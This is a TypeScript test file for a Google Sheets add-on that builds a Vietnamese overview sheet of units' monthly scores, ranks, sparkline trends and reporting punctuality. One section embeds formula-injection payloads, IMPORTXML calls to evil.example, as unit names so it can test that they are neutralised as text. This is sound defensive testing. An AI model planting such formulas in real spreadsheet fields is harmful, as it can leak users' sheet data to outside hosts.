// The `Tổng quan` sheet's layout (workbook/overview-sheet.ts), as both painters receive it: a unit
// a row under its group, its score and rank month by month, the trend (a SPARKLINE over the row's
// own score cells in Google Sheets, a text chart in a file), its on-time rate and each month's
// reporting coloured on time, late, missing, not due or unknown; and what the add-on's painter
// writes unneutralised (the overview's own formula, nothing a user typed).
import { describe, expect, it } from "vitest";
import { buildHistory, type History } from "../../src/core/history";
import { parsePeriod } from "../../src/core/periods";
import type { Model } from "../../src/core/schemas";
import { buildTrends } from "../../src/core/trends";
import { valuesToWrite } from "../../src/server/paint";
import {
  isOverviewFormula,
  isOverviewTitleRow,
  layoutOverviewSheet,
  OVERVIEW_COLORS,
  type OverviewOptions,
  sparklineFormula,
  textChart,
} from "../../src/workbook/overview-sheet";
import type { SheetPaint } from "../../src/workbook/ranking-sheet";
import { readWorkbook } from "../../src/workbook/read";
import { sampleProvince } from "../../src/workbook/sample";
import { indicator, model, unit } from "../core/builders";

const TZ = "Asia/Ho_Chi_Minh";

function sampleModel(edit?: (s: ReturnType<typeof sampleProvince>) => void): Model {
  const s = sampleProvince();
  edit?.(s);
  const read = readWorkbook({
    sheets: { "Đơn vị": s.units, "Chỉ tiêu": s.indicators, "Số liệu": s.data, "Cài đặt": s.settings },
    timeZone: TZ,
  });
  if (read.problems.length > 0) throw new Error(`the sample has problems: ${read.problems[0].key}`);
  return read.model;
}

const options = (period: string, over: Partial<OverviewOptions> = {}): OverviewOptions => ({
  lang: "vi",
  period: parsePeriod(period)!,
  writtenAt: "01/08/2023 08:00",
  decimals: 2,
  trend: "sparkline",
  ...over,
});

function layout(
  m: Model,
  period: string,
  over: Partial<OverviewOptions> = {},
  today = { year: 2023, month: 8, day: 10 },
) {
  const history = buildHistory(m, parsePeriod(period)!, { timeZone: TZ, today });
  return { history, paint: layoutOverviewSheet(history, options(period, over)) };
}

/** The 1-based header rows: the bands, then the month labels. */
const headerRow = (p: SheetPaint) => p.values.findIndex((r) => r[0] === "Mã đơn vị" || r[0] === "Unit ID") + 1;
const rowOf = (p: SheetPaint, unitId: string) => p.values.findIndex((r) => r[0] === unitId);
const THIN = "\u2009";

describe("the July 2023 overview of the sample", () => {
  const m = sampleModel();
  const { history, paint } = layout(m, "2023-07");
  const h1 = headerRow(paint);
  const labels = paint.values[h1].map(String);
  const bands = paint.values[h1 - 1].map(String);
  const months = ["T1/2023", "T2/2023", "T3/2023", "T4/2023", "T5/2023", "T6/2023", "T7/2023"];
  const scoreCol = bands.indexOf("Điểm (%)");
  const trendCol = bands.indexOf("Xu hướng");
  const rankCol = bands.indexOf("Hạng trong nhóm");
  const submissionsCol = bands.indexOf("Nộp số liệu (hạn: ngày 5 tháng sau)");

  it("says what it is, which months, when, and what the colours mean", () => {
    expect(paint.values[0][0]).toBe("TỔNG QUAN CHUYỂN ĐỔI SỐ CỦA CÁC ĐƠN VỊ");
    expect(paint.values[1][0]).toBe(
      "Các tháng 01/2023 – 07/2023: điểm, hạng trong nhóm và việc nộp số liệu (xếp hạng tháng 07/2023).",
    );
    expect(paint.values[2][0]).toBe("Thời điểm lập: 01/08/2023 08:00");
    expect(paint.values[3][0]).toMatch(/^Nộp số liệu \(hạn: ngày 5 tháng sau\): xanh ✓ – đúng hạn; vàng – trễ hạn; đỏ/);
    expect(paint.values[4][0]).toBe("Xu hướng: biểu đồ điểm từng tháng, thang 0–100%.");
    expect(paint.title).toEqual({ row: 1, size: 14 });
    expect(paint.rowHeights[1]).toBe(32);
  });

  it("heads the months T1/2023… under Điểm, Hạng and Nộp số liệu, frozen and repeated on every page", () => {
    expect(history.trends.months).toHaveLength(7);
    expect(paint.values[h1 - 1].slice(0, 2)).toEqual(["Mã đơn vị", "Tên đơn vị"]);
    expect(labels.slice(scoreCol, scoreCol + 7)).toEqual(months);
    expect(trendCol).toBe(scoreCol + 7);
    expect(labels.slice(rankCol, rankCol + 7)).toEqual(months);
    expect(labels.slice(submissionsCol, submissionsCol + 2)).toEqual(["Tỷ lệ đúng hạn", "Số tháng đúng hạn"]);
    expect(labels.slice(submissionsCol + 2)).toEqual(months);
    expect(paint.frozenRows).toBe(h1 + 1);
    expect(paint.print.repeatRows).toEqual({ first: h1, last: h1 + 1 });
    // Bands merged over their months; the unit ID, name and trend over both header rows.
    expect(paint.merges).toContainEqual({ row: h1, column: scoreCol + 1, numRows: 1, numColumns: 7 });
    expect(paint.merges).toContainEqual({ row: h1, column: submissionsCol + 1, numRows: 1, numColumns: 9 });
    expect(paint.merges).toContainEqual({ row: h1, column: trendCol + 1, numRows: 2, numColumns: 1 });
    // Seven months print on one A4 page wide.
    expect(paint.print.pagesWide).toBe(1);
  });

  it("groups the units under their Nhóm, in the order of Đơn vị", () => {
    const headings = paint.values.filter((r) => /^Nhóm: /.test(String(r[0]))).map((r) => r[0]);
    expect(headings).toEqual(["Nhóm: Sở, ban, ngành (22 đơn vị)", "Nhóm: UBND cấp huyện (11 đơn vị)"]);
    const ids = paint.values.slice(h1 + 1).flatMap((r) => (/^Nhóm: /.test(String(r[0])) ? [] : [r[0]]));
    expect(ids).toEqual(history.trends.units.map((u) => u.unitId));
    expect(paint.values[rowOf(paint, "SKHCN")][1]).toBe("Sở Khoa học và Công nghệ");
  });

  it("gives each month's score as a percent and its rank in the group, as the ranking of that month alone", () => {
    const stp = history.trends.units.find((u) => u.unitId === "STP")!;
    const row = paint.values[rowOf(paint, "STP")];
    expect(row.slice(scoreCol, scoreCol + 7)).toEqual(stp.points.map((p) => (p.score ?? 0) / 100).map(near));
    expect(row.slice(rankCol, rankCol + 7)).toEqual(stp.points.map((p) => p.rank));
    const r = rowOf(paint, "STP");
    expect(paint.numberFormats[r][scoreCol]).toBe("0.0%");
    expect(paint.numberFormats[r][rankCol]).toBe("0");
    // July's ranks are those of the July ranking.
    const july = buildTrends(m, parsePeriod("2023-07")!);
    expect(row[rankCol + 6]).toBe(july.units.find((u) => u.unitId === "STP")!.points.at(-1)!.rank);
  });

  it("writes each unit's trend as a SPARKLINE of its own row's score cells, on a 0–100% scale", () => {
    const r = rowOf(paint, "STP") + 1;
    expect(paint.values[r - 1][trendCol]).toBe(`=SPARKLINE(C${r}:I${r},{"charttype","line";"ymin",0;"ymax",1})`);
    expect(sparklineFormula(r, 3, 9)).toBe(paint.values[r - 1][trendCol]);
    const firstUnit = rowOf(paint, "VP_UBND") + 1;
    // The block starts at the first group's heading, just above.
    expect(paint.formulas).toEqual([
      { row: firstUnit - 1, column: trendCol + 1, numRows: paint.values.length - firstUnit + 2, numColumns: 1 },
    ]);
    // Every unit row has one, each over its own row; the heading rows have none.
    for (const [i, row] of paint.values.entries()) {
      if (i + 1 < firstUnit) continue;
      const unitRow = !/^Nhóm: /.test(String(row[0]));
      expect(isOverviewFormula(row[trendCol], i + 1), `row ${i + 1}`).toBe(unitRow);
    }
  });

  it("counts the months on time out of those due, as a rate and as x/y", () => {
    const sct = history.punctuality.units.find((u) => u.unitId === "SCT")!;
    const row = paint.values[rowOf(paint, "SCT")];
    const due = sct.onTime + sct.late + sct.missing;
    expect(due).toBe(7);
    expect(sct.late).toBeGreaterThan(0);
    expect(row[submissionsCol]).toBeCloseTo(sct.onTime / due, 4);
    expect(row[submissionsCol + 1]).toBe(`${sct.onTime}/7`);
    expect(paint.numberFormats[rowOf(paint, "SCT")][submissionsCol]).toBe("0%");
  });

  it("colours each month's reporting: on time green ✓, late amber with its days, missing red", () => {
    const r = rowOf(paint, "SCT");
    const sct = history.punctuality.units.find((u) => u.unitId === "SCT")!;
    sct.cells.forEach((c, k) => {
      const j = submissionsCol + 2 + k;
      if (c.status === "onTime") {
        expect(paint.values[r][j]).toBe("✓");
        expect(paint.backgrounds[r][j]).toBe(OVERVIEW_COLORS.onTime);
      } else if (c.status === "late") {
        expect(paint.values[r][j]).toBe(`Trễ ${c.days} ngày`);
        expect(paint.backgrounds[r][j]).toBe("#ffe599");
      }
    });
    // Ban Dân tộc did not report June: missing (red), and its June score and rank grey.
    const bdt = rowOf(paint, "BDT");
    expect(paint.values[bdt][submissionsCol + 2 + 5]).toBe("Thiếu");
    expect(paint.backgrounds[bdt][submissionsCol + 2 + 5]).toBe("#f4c7c3");
    expect(paint.backgrounds[bdt][scoreCol + 5]).toBe("#e0e0e0");
    expect(paint.backgrounds[bdt][rankCol + 5]).toBe("#e0e0e0");
    expect(paint.backgrounds[bdt][scoreCol + 4]).toBeNull();
  });

  it("sizes the columns to what they hold and centres the marks", () => {
    expect(paint.columnWidths).toHaveLength(paint.values[0].length);
    expect(paint.columnWidths[1]).toBeLessThanOrEqual(220);
    expect(paint.columnWidths[trendCol]).toBe(110);
    for (const w of paint.columnWidths) expect(w).toBeGreaterThanOrEqual(32);
    expect(paint.centred?.map((b) => b.column)).toEqual([trendCol + 1, submissionsCol + 2]);
    expect(paint.frozenColumns).toBe(0);
  });
});

/** Two percents rounded as the cell holds them. */
const near = (x: number) => Math.round(x * 10000) / 10000;

describe("each month's reporting status", () => {
  // Figures for January to March; due on day 5 of the next month; "today" is 4 April in Vietnam.
  const m = model(
    [unit("A", "Sở A"), unit("B", "Sở B"), unit("C", "Sở C")],
    [indicator("X")],
    [
      ["2023-01", "A", { X: 0.9 }],
      ["2023-02", "A", { X: 0.5 }],
      ["2023-03", "A", { X: 0.7 }],
      ["2023-01", "B", { X: 0.4 }],
      ["2023-02", "C", { X: 0.2 }],
    ],
  );
  const stamps: Record<string, string> = {
    "2023-01|A": "2023-02-05T16:59:59.000Z", // 23:59:59 on 5 February in Vietnam: on time
    "2023-02|A": "2023-03-05T17:00:00.000Z", // 00:00 on 6 March in Vietnam: a day late
    "2023-03|A": "2023-04-02 09:00", // typed in the sheet's wall time: on time
    "2023-01|B": "", // nobody knows when
    "2023-02|C": "15/03/2023 10:00", // ten days late
  };
  for (const r of m.records) r.updatedAt = stamps[`${r.period}|${r.unitId}`];
  const history = buildHistory(m, parsePeriod("2023-03")!, { timeZone: TZ, today: { year: 2023, month: 4, day: 4 } });
  const paint = layoutOverviewSheet(history, options("2023-03"));
  const first = paint.values[headerRow(paint)].indexOf("T1/2023", 9);
  const cells = (id: string) => {
    const r = rowOf(paint, id);
    return [0, 1, 2].map((k) => [paint.values[r][first + k], paint.backgrounds[r][first + k]]);
  };

  it("on time green, late amber with its days, missing red, not yet due and unknown grey", () => {
    expect(cells("A")).toEqual([
      ["✓", "#d9ead3"],
      ["Trễ 1 ngày", "#ffe599"],
      ["✓", "#d9ead3"],
    ]);
    expect(cells("B")).toEqual([
      ["?", "#e0e0e0"],
      ["Thiếu", "#f4c7c3"],
      ["Chưa đến hạn", "#e0e0e0"],
    ]);
    expect(cells("C")).toEqual([
      ["Thiếu", "#f4c7c3"],
      ["Trễ 10 ngày", "#ffe599"],
      ["Chưa đến hạn", "#e0e0e0"],
    ]);
  });

  it("rates on time over the months due, unknown rows counting in neither", () => {
    const count = (id: string) => paint.values[rowOf(paint, id)][first - 1];
    const rate = (id: string) => paint.values[rowOf(paint, id)][first - 2];
    expect([rate("A"), count("A")]).toEqual([near(2 / 3), "2/3"]);
    expect([rate("B"), count("B")]).toEqual([0, "0/1"]);
    expect([rate("C"), count("C")]).toEqual([0, "0/2"]);
  });

  it("reads in English with the English catalogue", () => {
    const en = layoutOverviewSheet(history, options("2023-03", { lang: "en" }));
    const h = headerRow(en);
    expect(en.values[0][0]).toBe("DIGITAL TRANSFORMATION OVERVIEW OF THE UNITS");
    expect(en.values[h - 1].slice(0, 2)).toEqual(["Unit ID", "Unit name"]);
    expect(en.values[h].slice(2, 5)).toEqual(["1/2023", "2/2023", "3/2023"]);
    const r = rowOf(en, "A");
    expect(en.values[r].slice(first, first + 3)).toEqual(["✓", "1 day late", "✓"]);
    expect(en.values[rowOf(en, "B")].slice(first, first + 3)).toEqual(["?", "Missing", "Not yet due"]);
    expect(en.values[rowOf(en, "C")][first + 1]).toBe("10 days late");
  });
});

describe("the text chart of a file", () => {
  it("draws a block a month from ▁ (below 12.5 %) to █ (87.5 % and above), · for a month without a score", () => {
    expect(textChart([0, 12.4, 12.5, 50, 87.4, 87.5, 100, null])).toBe(
      ["▁", "▁", "▂", "▅", "▇", "█", "█", "·"].join(THIN),
    );
    expect(textChart([])).toBe("");
  });

  it("replaces the SPARKLINE in a file, coloured, with no formula cell at all", () => {
    const { history, paint } = layout(sampleModel(), "2023-07", { trend: "text" });
    const trendCol = paint.values[headerRow(paint) - 1].indexOf("Xu hướng");
    const r = rowOf(paint, "STP");
    const stp = history.trends.units.find((u) => u.unitId === "STP")!;
    expect(paint.values[r][trendCol]).toBe(textChart(stp.points.map((p) => p.score)));
    expect(paint.values[4][0]).toBe(
      "Xu hướng: mỗi ký tự một tháng, từ ▁ (dưới 12,5%) đến █ (từ 87,5%); · là tháng không có điểm.",
    );
    expect(paint.formulas).toEqual([]);
    expect(paint.values.flat().some((v) => typeof v === "string" && v.startsWith("="))).toBe(false);
    expect(paint.fontColors?.[0]).toMatchObject({ color: "#1f4e79", block: { column: trendCol + 1, numColumns: 1 } });
  });
});

describe("a unit name that looks like a formula", () => {
  const hostile = '=IMPORTXML("http://evil.example/x","//a")';
  const m = sampleModel((s) => {
    s.units[1][1] = hostile;
  });
  const { paint } = layout(m, "2023-07");
  const r = rowOf(paint, String(sampleProvince().units[1][0]));

  it("stays text when the add-on writes it; the overview's own formula goes out as a formula", () => {
    expect(paint.values[r][1]).toBe(hostile);
    const written = valuesToWrite(paint);
    expect(written[r][1]).toBe(`'${hostile}`);
    const trendCol = paint.values[headerRow(paint) - 1].indexOf("Xu hướng");
    expect(written[r][trendCol]).toBe(paint.values[r][trendCol]);
    expect(String(written[r][trendCol])).toMatch(/^=SPARKLINE\(/);
    // Every other text that starts like a formula is neutralised.
    const formulas = written.flat().filter((v) => typeof v === "string" && /^[=+\-@]/.test(v));
    expect(formulas.every((v) => String(v).startsWith("=SPARKLINE("))).toBe(true);
  });

  it("is never written as a formula, even in a cell marked as one, nor is a SPARKLINE of another row", () => {
    const forged: SheetPaint = {
      ...paint,
      values: paint.values.map((row) => [...row]),
      formulas: [{ row: 1, column: 1, numRows: paint.values.length, numColumns: paint.values[0].length }],
    };
    forged.values[r][1] = hostile;
    forged.values[r][2] = sparklineFormula(r, 3, 9); // row r, written in row r + 1
    forged.values[r][3] = `${sparklineFormula(r + 1, 3, 9)}+IMPORTXML("http://evil.example")`;
    const written = valuesToWrite(forged);
    expect(written[r][1]).toBe(`'${hostile}`);
    expect(written[r][2]).toBe(`'${sparklineFormula(r, 3, 9)}`);
    expect(String(written[r][3]).startsWith("'")).toBe(true);
    expect(isOverviewFormula(sparklineFormula(r + 1, 3, 9), r + 1)).toBe(true);
    expect(isOverviewFormula('=SPARKLINE(C1:I1,{"charttype","bar"})', 1)).toBe(false);
    expect(isOverviewFormula('=SPARKLINE(Sheet1!C1:I1,{"charttype","line";"ymin",0;"ymax",1})', 1)).toBe(false);
  });
});

describe("the overview's own title", () => {
  it("marks a sheet as the overview, in either language and either place, and nothing else", () => {
    const { paint } = layout(sampleModel(), "2023-07");
    expect(isOverviewTitleRow(paint.values[0])).toBe(true);
    expect(isOverviewTitleRow(["", "", "DIGITAL TRANSFORMATION OVERVIEW OF THE UNITS"])).toBe(true);
    expect(isOverviewTitleRow(["Bảng theo dõi riêng"])).toBe(false);
    expect(isOverviewTitleRow(["", "", "", "TỔNG QUAN CHUYỂN ĐỔI SỐ CỦA CÁC ĐƠN VỊ"])).toBe(false);
    expect(isOverviewTitleRow([])).toBe(false);
  });
});

describe("the months shown", () => {
  it("spreads twelve months over two A4 pages wide, the unit ID and name repeated, the title clear of them", () => {
    const { paint } = layout(sampleModel(), "2023-12");
    const h = headerRow(paint);
    expect(paint.values[h].filter((v) => v === "T12/2023")).toHaveLength(3);
    expect(paint.print).toMatchObject({ pagesWide: 2, repeatColumns: { first: 1, last: 2 } });
    // The title rows start after the repeated columns, which would cut them on the second page.
    expect(paint.values[0].slice(0, 3)).toEqual(["", "", "TỔNG QUAN CHUYỂN ĐỔI SỐ CỦA CÁC ĐƠN VỊ"]);
  });

  it("shows the 12 months up to a quarter's or a year's last month", () => {
    const { paint } = layout(sampleModel(), "2023-Q2");
    const h = headerRow(paint);
    expect(paint.values[h].slice(2, 8)).toEqual(["T1/2023", "T2/2023", "T3/2023", "T4/2023", "T5/2023", "T6/2023"]);
    expect(paint.values[1][0]).toMatch(/^Các tháng 01\/2023 – 06\/2023: .*\(xếp hạng quý II\/2023\)\.$/);
  });

  it("still lays out the units, without a month or a formula, when no month has figures", () => {
    const empty: History = {
      trends: { months: [], units: [{ unitId: "A", unitName: "Sở A", group: "G", points: [] }] },
      punctuality: {
        months: [],
        dueDay: 5,
        units: [{ unitId: "A", unitName: "Sở A", group: "G", cells: [], onTime: 0, late: 0, missing: 0, rate: null }],
      },
    };
    const paint = layoutOverviewSheet(empty, options("2023"));
    expect(paint.values[1][0]).toBe("Chưa có số liệu tháng nào trong 12 tháng tính đến năm 2023.");
    const h = headerRow(paint);
    expect(paint.values[h - 1]).toEqual([
      "Mã đơn vị",
      "Tên đơn vị",
      "Xu hướng",
      "Nộp số liệu (hạn: ngày 5 tháng sau)",
      "",
    ]);
    expect(paint.values[rowOf(paint, "A")]).toEqual(["A", "Sở A", "", "", ""]);
    expect(paint.formulas).toEqual([]);
  });
});
